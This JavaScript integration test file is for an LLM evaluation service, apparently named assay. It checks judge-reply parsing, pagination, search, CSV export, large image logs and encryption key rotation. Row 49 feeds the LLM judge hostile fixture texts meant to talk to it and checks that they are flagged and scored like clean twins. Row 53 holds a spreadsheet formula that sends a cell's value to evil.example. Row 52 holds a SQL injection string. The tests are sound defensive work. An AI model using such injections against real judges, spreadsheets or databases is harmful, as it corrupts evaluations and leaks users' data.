// Rows of the fault table that do not concern a provider's faults, live: a sealing key that is missing or lost (43), judges
// whose replies give no level (48), responses that talk to the judge (49), lists while rows come and go (51), searches that
// a pattern would not bear (52), cells that a table would run (53), and a picture in a log (54).
//
// The native suite tries each of them more closely; here they meet the real database, store and runtime.

import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { after, before, beforeEach, test } from 'node:test';
import { rowsOf } from './database.mjs';
import { eventually, startWorld } from './world.mjs';

const FIXTURES = new URL('../fixtures/', import.meta.url);
const MEGABYTE = 1024 * 1024;
const [FIRST, SECOND] = [1, 2].map((byte) => Buffer.alloc(32, byte).toString('base64'));

const env = { ENCRYPTION_KEY: FIRST, SWEEP_MS: '500' };
let world;

before(async () => {
  world = await startWorld({ env });
});
after(() => world?.close());
beforeEach(() => world.provider.reset());

const model = (name, provider = 'scripted') => ({ provider, model: name });

/** Makes a set of items that are judged by one question. */
async function setOf(name, items) {
  const set = await world.ask('POST', '/api/sets', { name, criteria: [{ name: 'Right', question: 'Is it right?' }] });
  await world.ask('POST', `/api/sets/${set.id}/items`, { items });
  return set.id;
}

const start = (set_id, more) => world.ask('POST', '/api/runs', { set_id, target: model('scripted'), judge: model('judge'), baseline: false, ...more });

/** Waits until a run has a status, for a reason if one is given. */
const until = (run, status, reason = /(?:)/) => eventually(async () => {
  const now = await world.ask('GET', `/api/runs/${run.id}`);
  return now.status === status && reason.test(now.reason);
}, { within_ms: 60_000, every_ms: 100 });

/** Runs a set to its end, and gives the rows of the results by what was asked. */
async function results(set, more) {
  const run = await start(set, more);
  await until(run, 'done');
  const { data } = await world.ask('GET', `/api/runs/${run.id}/results?limit=200`);
  return { run, rows: new Map(data.map((row) => [row.request_preview, row])) };
}

/** Reads a list to its end, with something done after each page. */
async function walk(path, afterPage = () => {}) {
  const rows = [];
  for (let cursor = ''; cursor !== null;) {
    const page = await world.ask('GET', `${path}&cursor=${cursor}`);
    rows.push(...page.data);
    await afterPage(page.data);
    cursor = page.next_cursor;
  }
  return rows;
}

const pair = (said, created = 1_793_000_000, answer = 'Yes.') => ({ request: { model: 'm', messages: [{ role: 'user', content: said }] }, response: answer, created });
const importing = (feature, pairs) => world.ask('POST', `/api/logs/import?feature=${feature}`, pairs.map((one) => JSON.stringify(one)).join('\n'));

test('row 48: a reply that gives no level is unscored, never a score, and kept as it came', async () => {
  const replies = {
    prose: /no JSON object that gives a level/,
    'two-objects': /more than one verdict/,
    'level-11': /level 11 does not exist/,
    'missing-level': /no JSON object that gives a level/,
    'missing-flags': /missing field/,
    nan: /no JSON object that gives a level/,
  };
  const set = await setOf('Replies', Object.keys(replies).map((request) => ({ request })));
  world.provider.script(({ judge, data, last_user }) => {
    if (!judge) return { content: last_user };
    return data.candidate in replies ? data.candidate : { level: 0 };
  });
  const { run, rows } = await results(set);
  for (const [name, words] of Object.entries(replies)) {
    const row = rows.get(name);
    assert.deepEqual([row.verdict, row.score], ['unscored', null], name);
    const [{ candidate }] = (await world.ask('GET', `/api/runs/${run.id}/results/${row.item_id}`)).judgements;
    assert.equal(candidate.unscored.reply, readFileSync(new URL(`judge_replies/${name}.txt`, FIXTURES), 'utf8'), name);
    assert.match(row.criteria[0].reasoning_preview, words, name);
  }
  const { scored, unscored, pass_rate, average } = await world.ask('GET', `/api/runs/${run.id}/summary`);
  assert.deepEqual({ scored, unscored, pass_rate, average }, { scored: 0, unscored: rows.size, pass_rate: null, average: null });
});

test('row 49: a response that talks to the judge is shown as data alone, and judged as its clean twin is', async () => {
  const folder = new URL('hostile/', FIXTURES);
  const hostile = new Map(readdirSync(folder).map((file) => [file.replace('.txt', ''), readFileSync(new URL(file, folder), 'utf8')]));
  const clean = new Map([...hostile].map(([name, text]) => [name, text.split(/[\n"<\\\u200b]/)[0]]));
  const set = await setOf('Hostile', [...hostile.keys()].map((request) => ({ request, reference: 'It was sent on Monday and should arrive soon.' })));
  /** What the judge is asked, but for the candidate and the nonce, neither of which a twin can share. */
  const asked = (hit) => {
    const { messages: [system, user, ...more], ...settings } = hit.body;
    const { candidate, nonce, ...data } = hit.data;
    const [line, instruction, ...rest] = user.content.split('\n');
    assert.deepEqual(JSON.parse(line), hit.data, 'the data is one line of JSON');
    return JSON.stringify([settings, system, data, instruction.replace(nonce, 'NONCE'), rest, more]);
  };
  const key = (request, candidate) => JSON.stringify([request, candidate]);
  const runs = [];
  for (const [seed, texts] of [clean, hostile].entries()) {
    world.provider.reset();
    world.provider.script(({ judge, data, last_user, messages }) => {
      if (!judge) return { content: texts.get(last_user) };
      // A judge that believes whatever stands beside the data.
      const [, ...beside] = messages[1].content.split('\n');
      if (beside.join() !== `Grade the JSON with nonce ${data.nonce}. End of data.`) return { level: 5 };
      return { level: data.candidate.startsWith('It is somewhere') ? 2 : 0 };
    });
    const { rows } = await results(set, { target: { ...model('scripted'), params: { seed } } });
    runs.push({ rows, questions: new Map(world.provider.judgeHits().map((hit) => [key(hit.data.request.messages[0].content, hit.data.candidate), asked(hit)])) });
  }
  const [twin, own] = runs;
  for (const [name, text] of hostile) {
    const level = (run) => [run.rows.get(name).verdict, run.rows.get(name).criteria[0].level];
    assert.deepEqual(level(own), level(twin), name);
    if (own.rows.get(name).flags.includes('prefilter')) continue;
    assert.ok(own.rows.get(name).flags.includes('suspected_injection'), name);
    assert.ok(own.questions.has(key(name, text)), `${name} is shown whole`);
    assert.equal(own.questions.get(key(name, text)), twin.questions.get(key(name, clean.get(name))), name);
  }
});

test('row 51: pages neither skip nor repeat while rows come and go', async () => {
  // Many of the same moment, so that an id decides between them.
  await importing('pages', Array.from({ length: 60 }, (_, n) => pair(`Page ${n}?`, 1_793_000_000 + Math.floor(n / 20))));
  const path = '/api/logs?feature=pages&limit=7';
  const idsOf = (rows) => rows.map((row) => row.id);
  const before = idsOf(await walk(path));
  assert.equal(new Set(before).size, 60);
  const gone = new Set();
  let turn = 0;
  const seen = idsOf(await walk(path, async (page) => {
    turn += 1;
    const ids = [page[0].id, before[before.indexOf(page.at(-1).id) + 3]].filter(Boolean);
    ids.forEach((id) => gone.add(id));
    await Promise.all([
      importing('pages', [pair(`Newer ${turn}?`, 1_794_000_000 + turn), pair(`Newer still ${turn}?`, 1_794_000_000 + turn)]),
      world.ask('POST', '/api/logs/delete', { ids }),
    ]);
  }));
  assert.equal(new Set(seen).size, seen.length, 'nothing comes twice');
  assert.deepEqual(seen.filter((id) => !gone.has(id)), before.filter((id) => !gone.has(id)), 'what stays is seen, in its order');
  assert.ok(turn > 6 && gone.size > turn, `${turn} pages, ${gone.size} went`);
});

test('row 52: a search finds what it says, however long and odd it is', async () => {
  const long = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft';
  const said = {
    long: `Who founded the ${long}?`,
    phrase: 'The quick brown fox jumps over the lazy dog and runs far away.',
    emoji: 'It went wrong 🙁 and then right 👩‍🚀.',
    percent: 'It is 100% sure.',
    line: 'let my_value = 3;',
    double: 'He said "no way" twice.',
    single: "It's Anna's parcel.",
  };
  await importing('search', Object.values(said).map((text) => pair(text)));
  const cases = {
    [long]: ['long'],
    [long.slice(0, 51)]: [],
    [said.phrase]: ['phrase'],
    'fox lazy': ['phrase'],
    '🙁': ['emoji'],
    '🙂': [],
    '👩‍🚀': ['emoji'],
    '%': ['percent'],
    '100%': ['percent'],
    '1%0': [],
    _: ['line'],
    my_value: ['line'],
    '"': ['double'],
    '"no way"': ['double'],
    "'": ['single'],
    "Anna's": ['single'],
    "';DROP TABLE log;--": [],
  };
  const found = {};
  for (const q of Object.keys(cases)) {
    const { data } = await world.ask('GET', `/api/logs?feature=search&q=${encodeURIComponent(q)}`);
    found[q] = data.map((row) => Object.keys(said).find((name) => said[name] === row.request_preview));
  }
  assert.deepEqual(found, cases);
});

test('row 53: no cell of an export is a formula', async () => {
  const formulas = ['=HYPERLINK("https://evil.example?"&A1,"Refund")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1'];
  const set = await setOf('Formulas', formulas.map((request) => ({ request: `Say ${request}` })));
  world.provider.script(({ judge, last_user }) => (judge ? { level: 4 } : { content: last_user.replace('Say ', '') }));
  const { run } = await results(set);
  const { status, headers, body } = await world.api('GET', `/api/runs/${run.id}/report?format=csv`);
  assert.deepEqual([status, headers.get('content-disposition')], [200, `attachment; filename="${run.id}.csv"`]);
  const cells = [...body.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell.replaceAll('""', '"'));
  assert.deepEqual(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)), []);
  for (const formula of formulas) assert.ok(cells.some((cell) => cell.startsWith("'") && cell.includes(formula.trim())), formula);
});

test('row 54: a log with a picture of 10 MB is as light in a list as any other', async () => {
  const url = `data:image/png;base64,${'iVBORw0K'.repeat((10 * MEGABYTE) / 8)}`;
  const messages = [{ role: 'user', content: [{ type: 'text', text: 'What is in this picture?' }, { type: 'image_url', image_url: { url } }] }];
  const reply = await world.api('POST', '/v1/chat/completions', { model: 'scripted/scripted', messages }, { headers: { 'x-assay-feature': 'picture' } });
  assert.equal(reply.status, 200);
  const log = await eventually(async () => (await world.ask('GET', '/api/logs?feature=picture')).data[0]);
  assert.ok(JSON.stringify(log).length < 2_000, JSON.stringify(log));
  assert.match(log.request_preview, /^What is in this picture\?/);
  assert.ok([...log.request_preview].length <= 200);
  const [row] = await rowsOf(world.state, `SELECT blob IS NOT NULL AS apart, coalesce(length(request), 0) + coalesce(length(response), 0) AS beside FROM log_body WHERE log_id = '${log.id}'`);
  assert.deepEqual({ ...row }, { apart: 1, beside: 0 });
  const whole = await world.ask('GET', `/api/logs/${log.id}`);
  assert.equal(whole.request.messages[0].content[1].image_url.url, url);
});

test('row 43: a sealing key that is missing or lost stops what it sealed and nothing else, and another can take over', { timeout: 120_000 }, async () => {
  const set = await setOf('Keys', [1, 2].map((n) => ({ request: `Where is parcel ${n}?` })));
  const ask = async (name) => (await world.api('POST', '/v1/chat/completions', { model: name, messages: [{ role: 'user', content: 'Hello.' }] })).status;
  const restart = async (newest, older) => {
    await world.stop();
    Object.assign(env, { ENCRYPTION_KEY: newest, ENCRYPTION_KEY_OLD: older });
    await world.start();
  };
  const resume = (run) => world.ask('POST', `/api/runs/${run.id}/resume`);
  world.provider.script(() => '429-long');
  const run = await start(set);
  await until(run, 'paused', /429/);
  world.provider.script(null);
  for (const [newest, words] of [['none', /ENCRYPTION_KEY \(32 bytes in base64\) that seals it is not set/], [SECOND, /ENCRYPTION_KEY is another: set the one before as ENCRYPTION_KEY_OLD/]]) {
    await restart(newest);
    assert.deepEqual([await ask('scripted/scripted'), await ask('demo/echo')], [503, 200]);
    const refused = await world.api('POST', '/api/runs', { set_id: set, target: model('scripted'), judge: model('judge') });
    assert.equal(refused.status, 503);
    assert.match(refused.body.detail, words);
    await resume(run);
    await until(run, 'paused', words);
    await until(await start(set, { target: model('echo', 'demo'), judge: model('judge', 'demo') }), 'done');
  }
  await restart(SECOND, FIRST);
  assert.equal(await ask('scripted/scripted'), 200);
  await resume(run);
  await until(run, 'done');
  await eventually(() => world.output().includes('stored secrets: 1 sealed anew with ENCRYPTION_KEY, 0 left that another key sealed'));
  await restart(SECOND);
  assert.equal(await ask('scripted/scripted'), 200);
  const [{ sealed_key }] = await rowsOf(world.state, "SELECT sealed_key FROM provider WHERE name = 'scripted'");
  assert.match(sealed_key, /^v3:/);
  assert.equal(world.provider.hits.at(-1).headers.authorization, 'Bearer sk-stored-key-0001');
});
